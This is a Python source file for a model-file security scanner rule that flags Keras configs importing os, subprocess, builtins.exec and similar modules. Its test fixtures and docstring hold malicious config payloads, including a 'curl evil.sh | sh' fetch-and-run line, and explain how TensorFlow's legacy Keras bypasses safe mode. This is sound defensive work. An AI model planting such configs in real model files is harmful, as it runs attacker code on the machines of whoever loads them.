"""S104 config-import: a config object whose module Keras would import is os, subprocess, builtins.exec..."""

from __future__ import annotations

from collections.abc import Iterator

from inspector.engine import RuleOptions, Violation, rule
from inspector.graph import ModelGraph
from inspector.rules import _examples as ex


@rule(
    "S104", "config-import", "error", security_severity=9.8,
    invalid=[
        ex.sequential((None, 8), ex.layer("system", "boom", module="os", command="touch /tmp/pwned"),
                      ex.layer("Dense", "out", units=1)),
        ex.sequential((None, 8), ex.layer("Dense", "out", units=1, activation={
            "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})),
        ex.sequential((None, 8), ex.layer("Dense", "out", units=1, kernel_initializer={
            "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
            "registered_name": "function"})),
        # a Keras 2 Lambda whose named function tf_keras looks up in the stored module
        ex.sequential((None, 8), {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                                  "config": {"name": "run", "trainable": True, "function": "system",
                                             "function_type": "function", "module": "os", "arguments": {},
                                             "output_shape": None, "output_shape_type": "raw"}}),
        ex.sequential((None, 8), ex.layer("TFSMLayer", "remote", filepath="/tmp/other_savedmodel",
                                          call_endpoint="serve")),
        # the whole model built by TensorFlow's bundled legacy Keras, which never checks safe mode
        {**ex.sequential((None, 8), ex.layer("Dense", "out", units=1)),
         "module": "tensorflow.python.keras.engine.sequential"},
    ],
    valid=[
        ex.dense_chain("mlp", [16]),
        ex.sequential((None, 8), ex.layer("Dense", "out", units=1, activation={
            "module": "builtins", "class_name": "function", "config": "abs", "registered_name": "function"})),
        ex.sequential((None, 8), ex.layer("AttentionPooling", "pool", module="my_project.layers")),
        # an old tf.keras Lambda(K.mean): `module` is where its function came from, nothing is imported
        ex.sequential((None, 8), {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                                  "config": {"name": "mean", "trainable": True, "function": "mean",
                                             "function_type": "function",
                                             "module": "tensorflow.python.keras.backend", "arguments": {},
                                             "output_shape": None, "output_shape_type": "raw"}}),
    ],
)
def config_import(graph: ModelGraph, opts: RuleOptions) -> Iterator[Violation]:
    """
    ## What it does
    Reports objects in the model config whose stored `module` (or dotted `registered_name`) makes
    Keras import a module that reaches the system.

    ## Details
    The objects are layers, activations, initializers and nested configs; the modules `os`,
    `subprocess`, `builtins` (`exec`, `eval`, `open`, ...), `importlib`, `socket`, `pickle` and the
    like, or a Keras function that changes what loading does
    (`keras.config.enable_unsafe_deserialization`, `keras.utils.get_file`, a `TFSMLayer` that loads
    a SavedModel from a path the file chooses), or any `tensorflow.python.keras...` module:
    TensorFlow's bundled copy of legacy Keras.

    ## Why it matters
    Keras and tf_keras resolve every `{"module": ..., "class_name": ...}` in a config by importing
    the module and taking the attribute named (`_retrieve_class_or_fn`): a config naming
    `os.system` gets it called while the model is rebuilt, with the default `safe_mode=True`
    (CVE-2025-1550; CVE-2025-9906 switched safe mode off from the file). S102 `unknown-layer` warns
    about classes that need their package; this is not a missing package, it is an attack.

    `tensorflow.python.keras` is the route to bytecode: its `Lambda` and model builders never check
    safe mode. Checked with tf_keras 2.21 on `.keras` zips loaded with `load_model(path)` and
    default arguments: an object naming that module at the top level (the whole model), in
    `compile_config` (the loss), or in a value a layer deserializes itself (`Lambda.function`, a
    `Constant` initializer's `value`, `Embedding` dimensions) is built by that legacy Keras, and
    the Keras 2 Lambda bytecode inside runs while loading. tf_keras' own Lambda refuses bytecode
    from a `.keras` zip by default, and in a model's `layers` list tf_keras looks a layer up by
    `class_name` and ignores its module (the finding says so). Keras 3.15 refuses any module
    outside the keras packages.

    ## Example
    ```json
    {"module": "os", "class_name": "system", "config": {"command": "curl evil.sh | sh"}}
    ```

    ## How to fix
    Do not load the file. A model you built yourself never stores these modules: re-export it
    from your code.
    """
    for p in graph.source.payloads:
        if p.kind == "import":
            yield Violation(f"{p.place}: {p.detail}")
